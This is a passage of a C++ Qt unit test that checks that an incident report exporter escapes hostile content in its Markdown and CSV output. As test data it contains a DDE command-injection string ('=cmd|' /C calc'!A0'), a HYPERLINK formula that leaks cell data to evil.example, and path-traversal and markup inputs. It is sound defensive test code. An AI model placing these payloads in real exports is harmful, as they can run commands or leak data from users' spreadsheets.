        e.platform = QStringLiteral("TWITCH");
        e.action = TriageAction::pause();
        e.origin = TriageOrigin::bulk();
        e.result = TriageEntry::Result::Pending;
        pendings.append(log.append(e));
    }
    // Answers: all but the last two OK; one failed with a hostile message;
    // one never answered.
    for (int i = 0; i < pendings.size() - 2; ++i)
        log.appendResult(pendings.at(i), {}, QStringLiteral("PAUSED"), {}, kT0 + i);
    ApiError error;
    error.kind = ApiError::Kind::GraphQL;
    error.code = QStringLiteral("NOT_FOUND");
    error.message = QStringLiteral("=cmd|' /C calc'!A0");
    log.appendResult(pendings.at(pendings.size() - 2), error, {});
    // Outside the incident: not in its report.
    QVERIFY(log.closeIncident());
    TriageEntry other;
    other.kind = TriageKind::bot();
    other.accountName = QStringLiteral("not in the report");
    other.action = TriageAction::pause();
    other.result = TriageEntry::Result::Pending;
    log.append(other);

    const qint64 exportedAt = kT0 + 3600 * 1000;
    const IncidentReport report =
        IncidentReport::fromLog(log, QStringLiteral("INC-2291"), exportedAt);
    // One row per action, plus start and close.
    QCOMPARE(report.rows().size(), names.size() + 2);
    QCOMPARE(report.actionCount(), int(names.size()));
    QCOMPARE(report.rows().first().action, QStringLiteral("Incident INC-2291 started"));
    QCOMPARE(report.rows().last().action, QStringLiteral("Incident INC-2291 closed"));
    const IncidentReport::Row &first = report.rows().at(1);
    QCOMPARE(first.sentAtMs, kT0);
    QVERIFY(first.answeredAtMs > 0);
    QCOMPARE(first.outcome, QStringLiteral("OK"));
    QCOMPARE(first.target, QStringLiteral("Twitch"));
    QCOMPARE(first.action, QStringLiteral("Pause (bulk)"));
    QCOMPARE(first.operatorName, QStringLiteral("<b>Ana</b>"));
    QCOMPARE(report.rows().at(names.size() - 1).outcome, QStringLiteral("Failed"));
    // Still awaited by this log; a log reopened later says "no answer".
    QCOMPARE(report.rows().at(names.size()).outcome, QStringLiteral("Sent, waiting"));
    log.abandon(pendings.last());
    QCOMPARE(IncidentReport::fromLog(log, QStringLiteral("INC-2291"), exportedAt)
                 .rows()
                 .at(names.size())
                 .outcome,
             QStringLiteral("Sent, no answer"));

    // Markdown: a summary and a table whose every row has the header's
    // number of cells; no raw markup, link or control character survives.
    const QString md = report.toMarkdown();
    QVERIFY(md.startsWith(QLatin1String("# Incident report: INC-2291\n")));
    QVERIFY2(
        md.contains(QLatin1String("**15 actions**: 13 OK, 1 failed, 1 without an answer, 0 other")),
        qPrintable(md.left(800)));
    QVERIFY(md.contains(QLatin1String("**Exported** 2023-11-14 23:13:20 UTC")));
    QVERIFY(md.contains(QLatin1String("| 2023-11-14 22:13:20 UTC | ")));
    QVERIFY(md.contains(QLatin1String("\\<b\\>Ana\\</b\\>")));
    // Outside the line breaks the report makes itself, no '<', '[' or ']'
    // is left unescaped, so nothing is HTML, a link or an image.
    {
        QString rest = md;
        rest.remove(QLatin1String("<br>"));
        for (qsizetype i = 0; i < rest.size(); ++i) {
            if (rest.at(i) == QLatin1Char('\\')) {
                ++i;
                continue;
            }
            QVERIFY2(rest.at(i) != QLatin1Char('<') && rest.at(i) != QLatin1Char('[')
                         && rest.at(i) != QLatin1Char(']') && rest.at(i) != QLatin1Char('@'),
                     qPrintable(rest.mid(qMax<qsizetype>(0, i - 40), 80)));
        }
    }
    QVERIFY(!md.contains(QLatin1String("https://")));
    QVERIFY(!md.contains(QLatin1String("<@")));
    QVERIFY(!md.contains(QChar(0x1b)));
    QVERIFY(!md.contains(QChar(0x00)));
    QVERIFY(!md.contains(QChar(0x202E)));
    QVERIFY(!md.contains(QLatin1String("not in the report")));
    const QStringList mdLines = md.split(QLatin1Char('\n'));
    auto cells = [](const QString &line) {
        int n = 0;
        for (qsizetype i = 0; i < line.size(); ++i) {
            if (line.at(i) == QLatin1Char('\\')) {
                ++i;
                continue;
            }
            if (line.at(i) == QLatin1Char('|'))
                ++n;
        }
        return n;
    };
    const qsizetype head = mdLines.indexOf(QStringLiteral(
        "| Sent \\(UTC\\) | Answered \\(UTC\\) | Operator | Server profile | Account | Account ID | "
        "Platform or server | Action | Outcome | Server message |"));
    QVERIFY(head > 0);
    QCOMPARE(mdLines.size() - head - 3, report.rows().size()); // header, rule, rows, ""
    for (qsizetype i = head; i < mdLines.size() - 1; ++i)
        QCOMPARE(cells(mdLines.at(i)), 11);

    // CSV: one line per row (no hostile name breaks a line), every cell that
    // could be a formula starts with ', times are ISO 8601 UTC.
    const QString csv = report.toCsv();
    const QStringList lines = csv.split(QStringLiteral("\r\n"));
    QCOMPARE(lines.size(), report.rows().size() + 2); // header, rows, ""
    QCOMPARE(lines.at(0),
             QStringLiteral("Incident,Sent (UTC),Answered (UTC),Operator,Server profile,Account,"
                            "Account ID,Platform or server,Action,Outcome,Server message,"
                            "Operator ID"));
    QVERIFY(lines.at(2).startsWith(QLatin1String("INC-2291,2023-11-14T22:13:20.000Z,")));
    QVERIFY(csv.contains(QLatin1String(",'=Prod|EU,")));
    QVERIFY(csv.contains(
        QLatin1String("\"'=HYPERLINK(\"\"https://evil.example/?\"\"&B2,\"\"x\"\")\"")));
    QVERIFY(csv.contains(QLatin1String(",'+1,")));
    QVERIFY(csv.contains(QLatin1String(",'-2,")));
    QVERIFY(csv.contains(QLatin1String(",'@SUM(A1),")));
    QVERIFY(csv.contains(QLatin1String("NOT_FOUND: =cmd")));
    QVERIFY(!csv.contains(QChar(0x1b)));
    QVERIFY(!csv.contains(QChar(0x00)));
    QVERIFY(!csv.contains(QLatin1String("not in the report")));
    for (const QString &line : lines) {
        // No field of any line starts with an unprefixed formula character.
        for (const QString &field : line.split(QLatin1Char(','))) {
            if (field.isEmpty() || field.startsWith(QLatin1Char('"')))
                continue;
            QVERIFY2(!QStringLiteral("=+-@").contains(field.front()), qPrintable(line));
        }
    }
    QCOMPARE(IncidentReport::fileBaseName(QStringLiteral("INC 22/91")),
             QStringLiteral("incident-INC_22_91"));
    QCOMPARE(IncidentReport::fileBaseName(QStringLiteral("../x")), QStringLiteral("incident-_x"));
}

QTEST_GUILESS_MAIN(TestIncidentModels)
#include "TestIncidentModels.moc"
